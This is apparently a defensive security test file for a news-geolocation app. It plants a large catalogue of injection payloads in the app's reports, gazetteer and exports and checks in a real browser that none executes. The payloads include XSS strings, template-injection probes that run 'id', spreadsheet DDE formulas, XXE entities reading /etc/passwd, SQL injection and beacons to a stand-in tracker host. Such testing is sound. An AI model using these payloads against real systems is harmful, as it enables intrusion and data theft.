"""Scripts, templates and formulas in everything that Dateline shows or hands over.

Families of payloads stand in texts, titles, bylines, outlets, origins, notes, file names, names of places in the gazetteer and in a pack, and
in decisions; a real browser opens the reports and works with them. The same stand in every export, which is opened or read back. Held to: no
dialog, no script run, no request to another host, no error of the page; texts and names are shown as written, and come back exactly or
disarmed.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import sys
import tempfile
import xml.etree.ElementTree as ET
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from itertools import islice, product
from pathlib import Path
from typing import TYPE_CHECKING, Any

from benchmarks.stage import Visit, chromium, served, visit
from benchmarks.trust.campaign import Order, Result, crash, own_home
from dateline import Article, Choice, Label, Mention, Passage, Place, ReadArticle, Reading, packs
from dateline import decisions as log
from dateline.characters import UNSAFE
from dateline.codec import MAX_NAME
from dateline.decisions import Value
from dateline.exports import FORMATS, Selection, render, select
from dateline.gazetteer import SCHEMA
from dateline.intake.draft import Draft
from dateline.library import Library
from dateline.names import fold_key

if TYPE_CHECKING:
    from playwright.sync_api import Browser

PAYLOADS = 300
A_REPORT = 20
"""Payloads of one report, each with a place of its own."""
RUN = "top.pwned=1"
"""What a script of ours does, if it runs: whatever frame it is in, the page knows."""
FAR = "//tracker.example/p"
SUM = "62615533"
"""7919 * 7907: shown, if somebody works out a template."""
FORM = {form.name: form for form in FORMATS}
_ALIVE = ("script", "foreignObject", "}a")
_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_UNSEEN = re.compile(r"[\x00-\x1f\x7f-\x9f\ufffd\ufffe\uffff\ud800-\udfff\s]+")
_TEMPLATE = re.compile(r"\{[{%#]|[%#}]\}")
"""Of these each is decided as well: a decision brings a place with an id of its own, which no gazetteer would give."""
HANG = ("{{9**9**9}}", "{{ range(10**9)|list }}", "{% for a in range(10**9) %}x{% endfor %}", "{{'x'*10**10}}")
"""Payloads that hang a map which takes names for templates."""


def families() -> Iterator[str]:
    """Yield payloads, family by family."""
    tags = (
        f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script src={FAR}></script>", f"<script/x>{RUN}</script>", f"<script>{RUN}//", f"<script type=module>{RUN}</script>",
        f"<img src=x onerror={RUN}>", f"<img src={FAR}.png>", f'<image href="{FAR}">', f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
        f"<object data=javascript:{RUN}></object>", f"<embed src={FAR}>", f"<link rel=stylesheet href={FAR}.css>", f"<base href={FAR}/>", f"<meta http-equiv=refresh content='0;url={FAR}'>",
        f"<form action={FAR}><button>Go</button></form>", f"<a href=javascript:{RUN}>Bakhmut</a>", f"<video src={FAR} onerror={RUN}></video>", f"<audio src={FAR} onerror={RUN}></audio>",
        f"<style>@import '{FAR}.css';</style>", f"<style>*{{background:url({FAR})}}</style>", f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>", f"<template><img src=x onerror={RUN}></template>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<xmp><img src=x onerror={RUN}></xmp>", f"<plaintext><img src=x onerror={RUN}>", f"<!--><img src=x onerror={RUN}>-->",
        f"<![CDATA[<img src=x onerror={RUN}>]]>", "<b>bold</b>", "<h1>large</h1>", "</div></div></div>", "<table><tr><td>", "<dialog open>x</dialog>", "<marquee>x</marquee>", "<!--", "-->", "<", "</", "&lt;script&gt;",
        f"&#60;img src=x onerror={RUN}&#62;", f"\\u003cimg src=x onerror={RUN}\\u003e", f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e", f"%3Cscript%3E{RUN}%3C/script%3E", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"＜script＞{RUN}＜/script＞", f"<svg><script>{RUN}</script></svg>", f"<svg/onload={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributeName=x>",
        f"<svg><use href='{FAR}#x'/></svg>", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>", f"<svg><a href=javascript:{RUN}><text>x</text></a></svg>", f"<svg><image href='{FAR}'/></svg>",
    )  # fmt: skip
    yield from tags
    for end in (
        "</title>",
        "</textarea>",
        "</script>",
        "</style>",
        "</template>",
        "</noscript>",
        "</iframe>",
        "</xmp>",
        "-->",
        "]]>",
        "*/",
        "</body></html>",
    ):
        yield f"{end}<img src=x onerror={RUN}>"
        yield f"{end}<script>{RUN}</script>"
    for event in (
        "onload", "onerror", "onclick", "onmouseover", "onmouseenter", "onpointerover", "onfocus", "onanimationstart", "ontoggle", "onwheel", "onscroll", "onpaste", "onbeforeinput", "ontransitionend",
    ):  # fmt: skip
        yield f"<b {event}={RUN} tabindex=1 autofocus style=animation:x>x</b>"
        yield f'" {event}="{RUN}" autofocus x="'
        yield f"' {event}='{RUN}' x='"
    for quote in ('"', "'", "`", "\\", "\\\\", '\\"', "\\'", "\\`", "&quot;", "&#39;", "&#x60;"):
        yield f"{quote}><svg onload={RUN}>"
        yield f"{quote};{RUN};//"
        yield f"{quote}+({RUN})+{quote}"
        yield f"{quote}}});{RUN};({{x:{quote}"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "vbscript:",
        "data:text/html,<script>",
        "data:text/html;base64,PHNjcmlwdD4",
        "view-source:",
        "file:///etc/passwd#",
        "blob:",
        "\x01javascript:",
    ):
        yield f"{scheme}{RUN}"
        yield f"[x]({scheme}{RUN})"
    for inner in (
        RUN,
        f"alert`{RUN}`",
        "7919*7907",
        f"(()=>{{{RUN}}})()",
        f"constructor.constructor('{RUN}')()",
        f"import('{FAR}')",
        "}",
        "{",
        "`",
        "undefined.x",
        "/*",
    ):
        yield f"${{{inner}}}"
        yield f"`${{{inner}}}`"
    for inner in (
        "7919*7907", "7919 * 7907", "'x'.__class__.__mro__", "config", "self", "this", "kwargs", "request", "cycler.__init__.__globals__.os.popen('id')", "lipsum.__globals__", "7919*7907|safe", "namespace()",
        "joiner", "''.join(['a'])", "1/0", "undefined_name.x", "(1,", "",
    ):  # fmt: skip
        yield f"{{{{{inner}}}}}"
        yield f"{{{{-{inner}-}}}}"
    yield from (
        "{% raw %}", "{% endraw %}", "{% set x = 1 %}", "{% for a in [1,2] %}x{% endfor %}", "{% if 1 %}", "{% include '/etc/passwd' %}", "{% extends 'x' %}", "{% import 'os' as o %}", "{%", "%}", "{#", "#}", "{# x #}",
        "{{", "}}", "{%%}", "#{7919*7907}", "<%= 7919*7907 %>", "*{7919*7907}", "@(7919*7907)", "[[7919*7907]]", "{7919*7907}", "%s%n%x", "{0.__class__}", "%(x)s", "$x^2$", "$$\\frac{1}{0}$$", "$\\frac{", "\\[x\\]", "$\\href{//tracker.example}{x}$",
    )  # fmt: skip
    yield from (
        "expression(top.pwned=1)", f"background:url({FAR})", f"x:expression({RUN})", f"}}*{{background:url({FAR})}}", f";background-image:url({FAR});", f"@import url({FAR});", "</style><style>body{display:none}", "\\3c script\\3e ",
        f"![x](http:{FAR}.png)", f"![x]({FAR}.png)", f'![x](http:{FAR}.png "title")', f"[![x](http:{FAR}.png)](http:{FAR})", f"<http:{FAR}>", f"[x]: http:{FAR}", f"[x](http:{FAR})", "# large", "**bold**", "~~x~~", "`code`",
        "```\ncode\n```", "| a | b |", "> quoted", "- item", "1. item", "---", ":red[x]", ":material/home:", ":smile:", ":blue-background[x]", ":streamlit:", "---\ntitle: other\n---", "$x$", "~x~", "\\", "&amp;", "&nbsp;", "&copy",
    )  # fmt: skip
    for start in (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        " =",
        "\n=",
        "＝",
        "＋",
        "－",
        "＠",
        "%",
        "|",
        "'=",
        '"=',
        ";=",
        ",=",
        "\ufeff=",
        "\u00a0=",
    ):
        yield f'{start}HYPERLINK("http:{FAR}?"&A1,"Kyiv")'
    yield from (
        "=cmd|'/c calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "-2+3+cmd|x", '=IMPORTXML("http://x","//a")', '=WEBSERVICE("http://x")', "DDE(\"cmd\";\"/C calc\";\"x\")", '","=1+1', '"\r\n=1+1', "a,b;c\td", "a\r\nb",
        '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;", "&#0;", "&#xD800;", "<x:include href='/etc/passwd'/>", "]]><x/><![CDATA[", "<?php x ?>", "<?xml-stylesheet href='//x'?>", "&xxe;", "%xxe;",
        "a\u2028b", "a\u2029b", "\u202egnp.exe", "\u202dabc\u202c", "\u2066a\u2069", "\u200b\u200bx", "\ufeffx", "a\u0085b", "e\u0301\u0301\u0301\u0301", "\U000e0041x", "ﷺ", "\x1b[31mred", "a\x08b", "\x7fx", "ＳＣＲＩＰＴ", "ſcript", "İ", "ß",
        "__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "NaN", "true", "-0", "1e309", "../../etc/passwd", "..\\..\\x", "C:\\x", "a" * 190, "'; DROP TABLE report; --", "' OR 1=1 --", "%00", "%0d%0aSet-Cookie: a=b",
    )  # fmt: skip


def run(order: Order) -> Result:
    """Show every payload in a browser, and hand it over in every form."""
    result, chance = Result("payloads"), order.chance("payloads")
    everything = [p for p in dict.fromkeys(families()) if p.strip()]
    chance.shuffle(everything)
    payloads = [*everything[: order.share(max(PAYLOADS, len(everything)))], *(HANG if order.hang else ())]
    pages = 0
    with own_home() as home, tempfile.TemporaryDirectory(prefix="dateline-trust-") as folder, chromium() as browser:
        groups = list(_groups(payloads, A_REPORT))
        _prepared(home, Path(folder), groups)
        env = {"DATELINE_HOME": str(home), "DATELINE_GAZETTEER": str(Path(folder) / "hostile.sqlite")}
        with served(Path(folder) / "in", Path(folder) / "server.log", env) as running:
            for number, group in enumerate(groups):
                print(f"  page {number} of {len(groups)}", file=sys.stderr, flush=True)
                pages += 1
                _shown(browser, running.url, number, group, result)
        for number, group in enumerate(groups):
            _handed_over(browser, Path(folder), f"export {number}", group, result)
    result.tried = len(payloads)
    result.worst = f"{len(payloads)} payloads on {pages} pages and in {len(groups) * sum(len(f.tables) or 1 for f in FORMATS)} exports"
    return result


def _groups(payloads: Sequence[str], size: int) -> Iterator[list[str]]:
    rest = iter(payloads)
    while group := list(islice(rest, size)):
        yield group


# in the app


def _towns(count: int) -> list[str]:
    """Return made-up names of towns, no two of which fold to one key."""
    syllables = ["".join(pair) for pair in product("bdfglmnprst", "aeou")]
    names = {fold_key(name): name for name in ("Eviltown" + "".join(pair) for pair in product(syllables, repeat=2))}
    return list(islice(names.values(), count))


def _prepared(home: Path, folder: Path, groups: Sequence[Sequence[str]]) -> None:
    """Make gazetteer, pack, library and watched folder full of payloads."""
    payloads = [payload for group in groups for payload in group]
    town_of = dict(zip(payloads, _towns(len(payloads)), strict=True))
    # a table refuses control characters and long names, by row and column: what it takes is tried here
    nameable = [p for p in payloads if fold_key(p) and "|" not in p and not UNSAFE.search(p) and len(p) <= MAX_NAME]
    in_pack = set(nameable[::2])
    _gazetteer(folder / "hostile.sqlite", {town: payload for payload, town in town_of.items() if payload not in in_pack})
    os.environ["DATELINE_GAZETTEER"] = str(folder / "hostile.sqlite")
    try:
        rows = io.StringIO()
        table = csv.writer(rows)
        table.writerow(("name", "lat", "lon", "aliases"))
        table.writerows((p, 45 + n / 100, 30 + n / 50, town_of[p]) for n, p in enumerate(nameable) if p in in_pack)
        (folder / "own.csv").write_text(rows.getvalue(), encoding="utf-8", newline="")
        packs.add_own("trust", folder / "own.csv")
    finally:
        del os.environ["DATELINE_GAZETTEER"]
    library = Library(home / "library.sqlite")
    for number, group in enumerate(groups):
        sentences = [f"Fighting went on in {town_of[payload]} all day, officials said. {payload}" for payload in group]
        turn = [group[(number + k) % len(group)] for k in range(6)]
        draft = Draft("\n\n".join(sentences), turn[0], turn[1], turn[2], "2023-03-07", "https://a.example/x", "en", (turn[3],))
        report = library.reports.add(draft, turn[4], f"attack-{number}").report
        article = library.reports.get(report)
        assert article is not None
        library.decide(
            [_decision(article, payload, town_of[payload]) for payload in group if payload in group[::4] or _TEMPLATE.search(payload)]
        )
    watched = folder / "in"
    watched.mkdir()
    for number, payload in enumerate(payloads[:10]):
        name = re.sub(r"[/\x00]", "_", payload)[:60]
        (watched / f"{name}{number}.txt").write_bytes(f"Nothing new, number {number}.".encode() if number % 2 else b"")


def _gazetteer(path: Path, names: dict[str, str]) -> None:
    """Write a gazetteer whose every town is called, spelt and explained by a payload."""
    with sqlite3.connect(path) as db:
        db.executescript(SCHEMA)
        for row, (town, payload) in enumerate(names.items(), start=1):
            values = (
                row, "", payload, "PPL", 4_800_000 + row * 3_000, 3_000_000 + row * 4_000, "UA", payload, 500_000, 0, "point", payload, payload, payload,
            )  # fmt: skip
            db.execute(f"INSERT INTO place VALUES({','.join('?' * 14)})", values)
            db.execute("INSERT INTO name VALUES(?, ?, 1)", (fold_key(town), row))
    db.close()


def _decision(article: Article, payload: str, town: str) -> log.Decision:
    """Return a decision that places a town at a place called by a payload, for a payload, by a payload."""
    start = article.text.index(town)
    mention = Mention(f"m{start}-{start + len(town)}", start, start + len(town), town, 1.0, "")
    reading = Reading(mention, Passage(0, 0, len(article.text), 0), Choice(None, "", 0.0), Label("setting", ""), Label("literal", ""))
    place = Place(
        f"my:{payload[:40]}",
        payload,
        "PPL",
        47.0 + start / 10_000,
        36.0,
        "UA",
        payload,
        aliases=(payload,),
        claims=(payload,),
        source=payload,
    )
    return log.decide(article, reading, "place", Value(place), who=payload[:60], scope="name", why=payload)


@dataclass(slots=True)
class _Eyes:
    """What a browser saw that it must not."""

    dialogs: list[str] = field(default_factory=list)


def _watched(seen: Visit) -> _Eyes:
    eyes = _Eyes()

    def said(dialog: Any) -> None:
        eyes.dialogs.append(dialog.message)
        dialog.dismiss()

    seen.page.on("dialog", said)
    return eyes


def _shown(browser: Browser, url: str, number: int, group: Sequence[str], result: Result) -> None:
    """Open one report, look at it as a reader does, and note what is wrong."""
    case, tried = f"page {number}", "\n".join(group)
    with visit(browser) as seen:
        eyes, page = _watched(seen), seen.page
        try:
            seen.open(f"{url}/?report=attack-{number}")
            map_is_up = True
        except Exception as error:
            map_is_up = False
            result.fail(case, f"the map does not come up: {type(error).__name__}", tried)
        try:
            text = _plain(page.text_content(".dl-text", timeout=5_000) or "")
            for payload in group:
                if _plain(payload) not in text:
                    result.fail(f"{case}: {payload[:40]!r}", "the text is not shown as written", payload)
            if map_is_up:
                _looked_at(seen, case, group, result)
            if number % 3 == 0:
                _dialogs_opened(seen)
        except Exception as error:
            result.fail(case, f"the page does not work: {type(error).__name__}: {str(error).partition(chr(10))[0][:80]}", tried)
        _judged(seen, eyes, case, tried, result)


def _looked_at(seen: Visit, case: str, group: Sequence[str], result: Result) -> None:
    """Compare list, map and cards with what they must show."""
    tried, listed, mapped = "\n".join(group), seen.in_list(), seen.on_map()
    if len(listed) < 0.8 * len(group):
        result.fail(case, f"only {len(listed)} of {len(group)} towns are found", tried)
    for place in set(mapped) ^ set(listed):
        result.fail(case, f"a place of the list has another id on the map, or none: {place[:60]!r}", tried)
    cards = _looked_around(seen)
    if not any(_plain(payload) and _plain(payload) in card for card in cards for payload in group):
        result.fail(case, "no card shows a name as written", tried)


def _looked_around(seen: Visit) -> list[str]:
    """Go over the map and choose some places; return what their cards say."""
    page, cards = seen.page, []
    box = page.locator(".st-key-pane_map iframe").bounding_box()
    assert box is not None
    for place in seen.on_map()[::4]:
        x, y = page.evaluate("id => window.dateline.map.pixel(id)", place)
        page.mouse.move(box["x"] + x, box["y"] + y)  # the tooltip
        page.locator(".dl-row").evaluate_all("(rows, id) => rows.find(row => row.dataset.place === id)?.click()", place)
        seen.settle()
        cards.append(_plain(page.text_content(".dl-card") or ""))
    return cards


def _dialogs_opened(seen: Visit) -> None:
    """Open every dialog and close it again."""
    for name in ("history", "library", "gazetteer", "export", "add"):
        seen.page.click(f".st-key-open_{name} button")
        seen.page.wait_for_selector("[role=dialog]", timeout=30_000)
        seen.settle()
        seen.page.locator("[role=dialog] button[aria-label='Close']").click()
        seen.page.wait_for_selector("[role=dialog]", state="detached", timeout=30_000)
        seen.settle()


def _judged(seen: Visit, eyes: _Eyes, case: str, tried: str, result: Result) -> None:
    """Note what a browser saw that it must not."""
    for frame in seen.page.frames:
        try:
            if frame.evaluate("() => window.pwned") is not None:
                result.fail(case, "a script ran", tried)
        except Exception:  # noqa: S112  # a frame that is gone
            continue
    if SUM in seen.page.evaluate("() => document.documentElement.textContent"):
        result.fail(case, "a template was worked out", tried)
    if eyes.dialogs:
        result.fail(case, f"a dialog of the browser: {eyes.dialogs[0][:60]}", tried)
    for request in dict.fromkeys(seen.foreign):
        if not request.startswith("file:"):
            result.fail(case, f"a request to another host: {request[:80]}", tried)
    for error in dict.fromkeys(seen.errors):
        result.fail(case, f"an error of the page: {error[:120]}", tried)


def _plain(text: str) -> str:
    """Return a text without what a screen does not show: white space, control characters, and what stands for those."""
    return _UNSEEN.sub("", text)


# in what is handed over


def _selection(payloads: Sequence[str]) -> Selection:
    """Return a report whose every name, reason and description is a payload, as something to export."""
    text = " ".join(f"At {payload} nothing." for payload in payloads)
    whole, readings, at = Passage(0, 0, len(text), 0), [], 0
    for number, payload in enumerate(payloads):
        start = text.index(payload, at)
        at = start + len(payload)
        place = Place(
            f"my:{payload}",
            payload,
            "PPL",
            40 + number / 10,
            30 + number / 10,
            "UA",
            payload,
            aliases=(payload,),
            claims=(payload,),
            source=payload,
        )
        mention = Mention(f"m{start}-{at}", start, at, payload, 1.0, payload)
        choice = Choice(place if number % 4 else None, payload, 0.5)
        readings.append(Reading(mention, whole, choice, Label("fighting", payload), Label("literal", payload), "checked", payload))
    article = Article("hostile", payloads[0], text, byline=payloads[-1], outlet=payloads[len(payloads) // 2], source="https://a.example/")
    return select(ReadArticle(article, (whole,), tuple(readings)))


def _handed_over(browser: Browser, folder: Path, case: str, payloads: Sequence[str], result: Result) -> None:
    """Hand over a report in every form, and read each back."""
    selection = _selection(payloads)
    names = list(selection.mentions["text"])
    for form in FORMATS:
        for table in form.tables or ("mentions",):
            try:
                content = render(selection, form, table)
                _read_back(browser, folder, f"{case} as {form.name}", form.name, content, names, selection, table, result)
            except Exception as error:
                result.fail(f"{case} as {form.name}", crash(error), "\n".join(payloads))


def _read_back(
    browser: Browser, folder: Path, case: str, form: str, content: bytes, names: list[str], selection: Selection, table: str, result: Result
) -> None:
    def same(found: Sequence[str], wanted: Sequence[str]) -> None:
        wrong = [w for f, w in zip(found, wanted, strict=False) if f != w]
        if len(found) != len(wanted) or wrong:
            result.fail(case, "texts do not come back as they were", "\n".join(wrong) or "another number of them")

    wanted = names if table == "mentions" else list(selection.places["name"])
    column = "text" if table == "mentions" else "name"
    match form:
        case "page" | "svg":
            _opened(browser, folder / f"x.{'html' if form == 'page' else 'svg'}", content, case, names if form == "page" else [], result)
            if form == "svg":
                parts = list(ET.fromstring(content).iter())  # noqa: S314  # our own
                tags = [e for e in parts if e.tag.endswith(_ALIVE) or any(name.startswith("on") for name in e.attrib)]
                if tags:
                    result.fail(case, f"the picture has a {tags[0].tag!r}", content)
        case "csv":
            rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
            same([row[column] for row in rows], [f"'{name}" if name.lstrip().startswith(_STARTS) else name for name in wanted])
            if any(cell.lstrip().startswith(_STARTS) and not _is_number(cell) for row in rows for cell in row.values()):
                result.fail(case, "a cell is a formula", content)
        case "geojson":
            same([feature["properties"][column] for feature in json.loads(content)["features"]], wanted)
        case "kml":
            root = ET.fromstring(content)  # noqa: S314  # our own
            found = [mark.findtext("{*}name") or "" for mark in root.findall(".//{*}Placemark")]
            same(sorted(map(_plain, found)), sorted(map(_plain, selection.places["name"])))
        case "jsonld":
            items = json.loads(content)["first"]["items"]
            same([item["target"]["selector"][0]["exact"] for item in items], names)
        case "parquet":
            import pandas as pd

            same(list(pd.read_parquet(io.BytesIO(content))[column]), wanted)
        case "geopackage":
            import pyogrio

            path = folder / "x.gpkg"
            path.write_bytes(content)
            same(list(pyogrio.read_dataframe(path, layer="mentions", read_geometry=False)["text"]), names)
        case "png":
            if not content.startswith(b"\x89PNG"):
                result.fail(case, "it is no picture", content)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _opened(browser: Browser, path: Path, content: bytes, case: str, names: Sequence[str], result: Result) -> None:
    """Open an export in the browser, touch what can be touched, and note what is wrong."""
    path.write_bytes(content)
    with visit(browser) as seen:
        eyes = _watched(seen)
        seen.page.goto(path.as_uri())
        seen.page.wait_for_timeout(300)
        if names:
            for at in range(300, 1_300, 200):
                seen.page.mouse.move(at, 450)
            shown = _plain(seen.page.text_content("body") or "")
            for name in names:
                if _plain(name) not in shown:
                    result.fail(f"{case}: {name[:40]!r}", "a name is not shown as written", name)
            seen.page.evaluate(
                "() => document.querySelectorAll('body [data-place], body [data-id], body button, body li').forEach(e => e.click())"
            )
            seen.page.wait_for_timeout(200)
        _judged(seen, eyes, case, "\n".join(names), result)
